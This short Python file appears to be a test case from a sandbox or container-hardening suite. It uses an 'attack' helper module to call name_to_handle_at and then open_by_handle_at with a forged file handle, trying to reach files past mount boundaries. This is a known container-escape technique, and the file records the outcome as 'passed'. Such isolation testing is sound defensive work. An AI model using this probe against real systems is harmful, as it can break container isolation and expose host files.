# tries: to open files by handle, past every mount
# outcomes: passed
import ctypes, struct
import attack
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
where = ctypes.c_int()
result = attack.syscall("name_to_handle_at", -100, b"/usr", handle, ctypes.byref(where), 0)
print("handle", result)
inode = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2) + bytes(64))
for root in (-100, 0):
    attack.calls(("open_by_handle_at", root, handle, 0), ("open_by_handle_at", root, inode, 0))
attack.tried()
